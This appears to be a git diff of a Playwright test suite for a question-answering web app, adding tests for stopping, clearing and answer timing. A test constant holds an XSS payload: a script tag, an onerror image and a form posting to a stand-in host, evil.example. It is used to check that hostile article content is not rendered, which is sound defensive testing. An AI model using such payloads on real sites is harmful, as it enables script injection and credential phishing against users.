@@ -3,20 +3,22 @@
 import json
 import re
 import shutil
+import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
 from urllib.parse import urlsplit
 
 import pytest
+from counting import CountingEncoder
 from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect, sync_playwright
 
 from app import serve
+from benchmarks.page_speed import asked
 from index.build import build as build_index
-from index.encoder import Encoder
+from index.encoder import Encoder, Vectors
 from index.options import BuildOptions
-from qa.assistant import Asked, Assistant
+from qa.assistant import Assistant
 from qa.chat import Desk
 from qa.export import read_export
 from qa.journal import Journal
@@ -32,6 +34,7 @@ ARTICLES = (
 )
 ENGLISH = "What role does the American backstop play for Ukraine?"
 ABSENT = "Who won the Kazakh chess championship in 1998?"
+SLOWLY = "What role does the American backstop play, slowly?"
 PAYLOAD = (
     '<script>window.came_alive=1;alert(1)</script><img src=x onerror="window.came_alive=1">'
     '<form action="http://evil.example/"><input name="code"><button>ok</button></form>'
@@ -51,8 +54,21 @@ pytestmark = [
 ]
 
 
+class SlowOnWish(CountingEncoder):
+    """Takes its time over a question that says so."""
+
+    def embed_queries(self, texts: list[str]) -> Vectors:
+        time.sleep(1.5 if any("slowly" in text for text in texts) else 0)
+        return super().embed_queries(texts)
+
+
 @pytest.fixture(scope="module")
-def assistant(encoder: Encoder, tmp_path_factory: pytest.TempPathFactory) -> Assistant:
+def slow(encoder: Encoder) -> SlowOnWish:
+    return SlowOnWish(encoder)
+
+
+@pytest.fixture(scope="module")
+def assistant(slow: SlowOnWish, tmp_path_factory: pytest.TempPathFactory) -> Assistant:
     """Over three of the samples and a hostile article."""
     folder = tmp_path_factory.mktemp("browser")
     for name in ARTICLES:
@@ -60,20 +76,8 @@ def assistant(encoder: Encoder, tmp_path_factory: pytest.TempPathFactory) -> Ass
         target.parent.mkdir(parents=True, exist_ok=True)
         shutil.copy(SAMPLES / name, target)
     (folder / "corpus" / "hostile.txt").write_text(HOSTILE, "utf-8")
-    build_index([folder / "corpus"], folder / "index", encoder, BuildOptions())
-    return SlowOnWish(folder / "index", encoder)
-
-
-class SlowOnWish(Assistant):
-    """Takes its time over a question that says so, and counts what it answered to the end."""
-
-    finished = 0
-
-    def ask(self, question: str, *rest: Any, **named: Any) -> Asked:
-        time.sleep(1.5 if "slowly" in question else 0)
-        asked = super().ask(question, *rest, **named)
-        self.finished += 1
-        return asked
+    build_index([folder / "corpus"], folder / "index", slow, BuildOptions())
+    return Assistant(folder / "index", slow)
 
 
 @pytest.fixture(scope="module")
@@ -333,24 +337,56 @@ def test_every_control_has_a_name(watched: Watched, language: str) -> None:
     assert watched.page.locator("#aqa-log [aria-label*='<']").count() == 0
 
 
-def test_stopping_leaves_the_page_ready_and_no_answer_arrives_later(watched: Watched, assistant: SlowOnWish) -> None:
+def test_stopping_ends_the_work_and_gives_the_question_back(watched: Watched, slow: SlowOnWish) -> None:
+    """While it searches: what comes after is not begun, and nothing arrives later."""
     page, box = watched.page, watched.page.locator("#aqa-question textarea")
     watched.ask("Qu'a dit la mairie du festival de Montclair ?")
-    box.fill("What role does the American backstop play, slowly?")
+    embedded = len(slow.embedded)
+    box.fill(SLOWLY)
     box.press("Enter")
     page.get_by_role("button", name="Stop").click()
     expect(box).to_be_editable(timeout=2000)
-    began, finished = time.monotonic(), assistant.finished
-    page.wait_for_timeout(2500)
+    page.wait_for_timeout(2000)
 
-    assert assistant.finished <= finished + 1
+    assert [thread.name for thread in threading.enumerate() if thread.name == "steps"] == []
+    assert len(slow.embedded) == embedded
+    expect(box).to_have_value(SLOWLY)
     expect(page.locator(".aqa-reply")).to_have_count(1)
     expect(page.locator(".aqa-section")).to_have_count(1)
+    expect(page.locator("#aqa-sign")).to_have_text("")
     watched.ask(ENGLISH)
     expect(page.locator(".aqa-asked").first).to_have_text(ENGLISH)
     page.get_by_role("link", name="[1]").last.click()
     expect(page.locator("mark.aqa-shown")).to_contain_text("backstop")
-    assert time.monotonic() > began
+    assert watched.wrongs == []
+
+
+@pytest.mark.parametrize("when", ["the moment it is answered", "while it is searched"])
+def test_what_was_cleared_stays_cleared(watched: Watched, when: str) -> None:
+    page, box = watched.page, watched.page.locator("#aqa-question textarea")
+    watched.ask(ABSENT)
+    box.fill(ENGLISH if "answered" in when else SLOWLY)
+    box.press("Enter")
+    expect(page.locator(".aqa-found") if "answered" in when else page.locator("[data-testid=user]").last).to_be_visible()
+    page.get_by_role("button", name="Clear").click()
+    page.wait_for_timeout(2500)
+
+    expect(page.locator("#aqa-log :is([data-testid=user], [data-testid=bot])")).to_have_count(0)
+    expect(page.locator(".aqa-card")).to_have_count(0)
+    expect(box).to_be_editable()
+    page.reload()
+    expect(box).to_be_editable()
+    page.wait_for_timeout(1000)
+    expect(page.locator("#aqa-log :is([data-testid=user], [data-testid=bot])")).to_have_count(0)
+    assert watched.wrongs == []
+
+
+def test_the_first_sign_waits_for_no_server_and_sources_come_before_the_answer(watched: Watched) -> None:
+    watched.ask(ENGLISH)
+    seen = asked(watched.page, "Qu'a dit la mairie du festival de Montclair ?")
+
+    assert seen["sign"] < 100
+    assert seen["question"] < seen["source"] < seen["answer"] <= seen["ready"]
     assert watched.wrongs == []
 
 
@@ -366,7 +402,6 @@ def test_a_conversation_survives_a_reload_and_goes_on(watched: Watched) -> None:
     expect(page.locator(".aqa-section")).to_have_count(2)
     watched.ask(ENGLISH)
     expect(page.locator(".aqa-section")).to_have_count(3)
-    page.wait_for_timeout(1000)  # Gradio writes the messages once more when all is done, over what was cleared meanwhile
     page.get_by_role("button", name="Clear").click()
     expect(page.locator(".aqa-reply")).to_have_count(0)
     page.wait_for_timeout(500)
